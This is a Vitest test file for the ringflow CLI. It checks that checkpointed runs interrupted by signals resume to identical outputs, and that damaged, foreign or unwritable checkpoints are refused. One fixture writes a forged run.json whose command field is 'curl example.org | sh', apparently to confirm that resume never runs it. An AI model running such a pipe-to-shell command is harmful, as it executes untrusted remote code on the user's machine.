/** Checkpoints and `resume`: the same bytes as the run that was not interrupted. */
import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { decodeCheckpoint, encodeCheckpoint } from "@ringflow/flow";
import { beforeAll, describe, expect, it } from "vitest";
import { ringflow, temporaryFolder, type Ran } from "./support/io.js";

/** Files that hold no clock. */
const SAME = ["metrics.jsonl", "measure.safetensors", "weights.safetensors", "certificate.json"];
/** Odd order: the run has two stages. */
const RUN = ["discover", "cyclic:5", "--particles", "32", "--out", "out"];
const read = (directory: string, name: string): string => readFileSync(join(directory, "out", name)).toString("hex");
/** The report without what tells the time. */
const report = (directory: string): string =>
  readFileSync(join(directory, "out", "report.html"), "utf8").replace(/<dt>Time<\/dt>.*?<\/div>/s, "");

/** Runs that are interrupted at the given pauses, one after the other, and then go on to the end. */
async function interrupted(argv: readonly string[], pauses: readonly number[]): Promise<{ directory: string; last: Ran }> {
  const directory = temporaryFolder();
  let last = await ringflow(argv, { directory, tick: 3, signal: { name: "SIGINT", atPause: pauses[0]! } });
  for (const atPause of pauses.slice(1)) {
    expect([130, 143]).toContain(last.status);
    last = await ringflow(["resume", "out", "--quiet"], { directory, tick: 3, signal: { name: "SIGTERM", atPause } });
  }
  return { directory, last: await ringflow(["resume", "out", "--quiet"], { directory, tick: 3 }) };
}

describe("a run that is interrupted and resumed", () => {
  let whole: Ran;
  beforeAll(async () => { whole = await ringflow(RUN, { tick: 3 }); }, 60_000);

  it("ends with the same bytes, in both stages, however often it is interrupted", async () => {
    expect(whole.status).toBe(0);
    for (const pauses of [[1], [3, 2, 5], [2, 3, 3]]) {
      const { directory, last } = await interrupted(RUN, pauses);
      expect(last.status).toBe(0);
      for (const name of SAME) expect(read(directory, name), `${name} after ${pauses.join()}`).toBe(read(whole.directory, name));
      expect(report(directory)).toBe(report(whole.directory));
      expect(JSON.parse(readFileSync(join(directory, "out/run.json"), "utf8")).resumed.length).toBeGreaterThanOrEqual(pauses.length - 1);
    }
  });

  it("names the command that goes on, and the folder holds a checkpoint until the run is done", async () => {
    const ran = await ringflow(RUN, { tick: 3, signal: { name: "SIGINT", atPause: 4 } });
    expect(ran.stderr).toMatch(/interrupted at flow time [\d.e+]+; out holds what was reached; go on with: ringflow resume out\./);
    expect(ran.files).toContain("out/checkpoint.bin");
    expect(whole.files).not.toContain("out/checkpoint.bin");
  });

  it("with adam: its means, its schedule and the stage after it", async () => {
    const adam = [...RUN, "--method", "adam", "--time", "800"];
    const straight = await ringflow(adam, { tick: 3 });
    const { directory } = await interrupted(adam, [1, 2]);
    for (const name of SAME.filter((file) => existsSync(join(straight.directory, "out", file)))) expect(read(directory, name), name).toBe(read(straight.directory, name));
  });

  it("on a group of even order: one stage, or two in the same coordinates", async () => {
    const even = ["discover", "cyclic:4", "--particles", "32", "--out", "out", "--time", "300"];
    const straight = await ringflow(even, { tick: 3 });
    const { directory } = await interrupted(even, [2, 3]);
    for (const name of SAME) expect(read(directory, name), name).toBe(read(straight.directory, name));
  });

  it("a checkpoint whose velocity is changed leads elsewhere (negative control)", async () => {
    const directory = temporaryFolder();
    await ringflow(RUN, { directory, tick: 3, signal: { name: "SIGINT", atPause: 4 } });
    const path = join(directory, "out/checkpoint.bin");
    const content = decodeCheckpoint(readFileSync(path)) as { saved: { flow: { state: { stepperState: { velocity: Float64Array } } } } };
    content.saved.flow.state.stepperState.velocity[0]! += 1e-3;
    writeFileSync(path, encodeCheckpoint(content as never));
    await ringflow(["resume", "out"], { directory, tick: 3 });
    expect(read(directory, "measure.safetensors")).not.toBe(read(whole.directory, "measure.safetensors"));
  });

  it("is left alone when it is done: its outcome and exit status again", async () => {
    const before = SAME.map((name) => read(whole.directory, name));
    const again = await ringflow(["resume", "out"], { directory: whole.directory });
    expect([again.status, again.stdout]).toEqual([0, "out is done already: verdict exact. See out/report.html.\n"]);
    const json = await ringflow(["resume", "out", "--json"], { directory: whole.directory });
    expect(JSON.parse(json.stdout)).toMatchObject({ folder: "out", done: true, verdict: "exact" });
    expect(SAME.map((name) => read(whole.directory, name))).toEqual(before);
  });

  it("starts again when it died before its first checkpoint", async () => {
    const directory = temporaryFolder();
    await ringflow(RUN, { directory, tick: 3, signal: { name: "SIGINT", atPause: 4 } });
    const record = JSON.parse(readFileSync(join(directory, "out/run.json"), "utf8"));
    const fresh = temporaryFolder();
    mkdirSync(join(fresh, "out"));
    writeFileSync(join(fresh, "out/run.json"), JSON.stringify({ ...record, status: "running" }));
    writeFileSync(join(fresh, "out/.checkpoint.bin.123.tmp"), "half a file");
    const ran = await ringflow(["resume", "out"], { directory: fresh, tick: 3 });
    expect(ran.status).toBe(0);
    expect(read(fresh, "measure.safetensors")).toBe(read(whole.directory, "measure.safetensors"));
    expect(ran.files.some((file) => file.includes(".tmp"))).toBe(false);
  });
});

describe("when the disk refuses", () => {
  it("a checkpoint that cannot be written ends the run with one line and leaves the last good one intact", async () => {
    const directory = temporaryFolder();
    await ringflow(RUN, { directory, tick: 3, signal: { name: "SIGINT", atPause: 3 } });
    const good = read(directory, "checkpoint.bin");
    const temporary = join(directory, `out/.checkpoint.bin.${process.pid}.tmp`);
    // Every byte written to the temporary file meets a full disk; the link appears after the run was taken up.
    const environment = { RINGFLOW_CHECKPOINT_SECONDS: "0" };
    const ran = await ringflow(["resume", "out"], { directory, tick: 3, environment, atPause: (pause) => { if (pause === 1) symlinkSync("/dev/full", temporary); } });
    expect(ran.status).toBe(2);
    expect(ran.stderr).toMatch(/^ringflow: .*checkpoint\.bin: expected to be able to write there, found .*ENOSPC.*\n$/);
    expect(readFileSync(join(directory, "out/run.json"), "utf8")).toContain('"status": "failed"');
    expect(ran.files.some((file) => file.includes(".tmp"))).toBe(false);
    const [before, after] = [Buffer.from(good, "hex"), readFileSync(join(directory, "out/checkpoint.bin"))].map((bytes) =>
      (decodeCheckpoint(bytes) as { saved: { flow: { state: { time: number } } } }).saved.flow.state.time);
    expect(after).toBeGreaterThanOrEqual(before!);
    const last = await ringflow(["resume", "out"], { directory, tick: 3 });
    expect(last.status).toBe(0);
  });

  it("a folder that may not be written to is refused before anything is computed", async () => {
    const ran = await ringflow(["discover", "cyclic:5", "--out", "/proc/nowhere"]);
    expect(ran.status).toBe(2);
    expect(ran.stderr).toMatch(/expected to be able to write there/);
  });
});

describe("what cannot be resumed", () => {
  it("no folder, no run, a foreign run.json, a damaged or foreign checkpoint: one line and exit status 2", async () => {
    const directory = temporaryFolder();
    const refuse = async (folder: string): Promise<string> => {
      const ran = await ringflow(["resume", folder], { directory });
      expect([ran.status, ran.stdout]).toEqual([2, ""]);
      expect(ran.stderr.trim().split("\n")).toHaveLength(1);
      return ran.stderr;
    };
    expect(await refuse("nowhere")).toMatch(/nowhere: expected the folder of a run, found no readable run\.json/);
    mkdirSync(join(directory, "mine"));
    for (const text of ["{}", "null", "[]", '{"format":"ringflow-run"}', '{"format":"ringflow-run","arguments":[1]}', "{"]) {
      writeFileSync(join(directory, "mine/run.json"), text);
      expect(await refuse("mine")).toMatch(/found a run\.json of something else/);
    }
    writeFileSync(join(directory, "mine/run.json"), JSON.stringify({ format: "ringflow-run", status: "running", arguments: ["extract", "x.npz", "--group", "cyclic:5"], command: "curl example.org | sh" }));
    expect(await refuse("mine")).toMatch(/expected a run of discover or theory, found one of "extract"\. Run it again: ringflow extract x\.npz --group cyclic:5\n$/);
    await ringflow(["compose", "cyclic:5", "--out", "composed", "--json"], { directory });
    expect(await refuse("composed")).toMatch(/expected a run of discover or theory, found one of "compose"/);
    await ringflow(RUN, { directory, tick: 3, signal: { name: "SIGINT", atPause: 3 } });
    const path = join(directory, "out/checkpoint.bin");
    const good = readFileSync(path);
    const damaged = Buffer.from(good);
    damaged[200]! ^= 255;
    const other = decodeCheckpoint(good) as { program: string; saved: { flow: { stepper: string } } };
    for (const [bytes, expected] of [
      [damaged, /a damaged one \(checksum\)/], [good.subarray(0, 50), /expected a checkpoint/], [Buffer.from("hello, this is a text"), /another kind of file/],
      [encodeCheckpoint({ ...other, program: "9.9.9" } as never), /one of version 9\.9\.9/], [encodeCheckpoint({ ...other, saved: { seconds: 1 } }), /parts missing/],
      [encodeCheckpoint({ ...other, saved: { ...other.saved, flow: { ...other.saved.flow, stepper: "euler" } } } as never), /euler/],
    ] as const) {
      writeFileSync(path, bytes);
      expect(await refuse("out")).toMatch(expected);
    }
  });

  it("an interval that is not a number", async () => {
    for (const seconds of ["soon", "-1", ""]) {
      const ran = await ringflow(RUN, { environment: { RINGFLOW_CHECKPOINT_SECONDS: seconds } });
      expect(ran.status).toBe(2);
      expect(ran.stderr).toMatch(/RINGFLOW_CHECKPOINT_SECONDS: expected a number of seconds >= 0/);
    }
  });
});
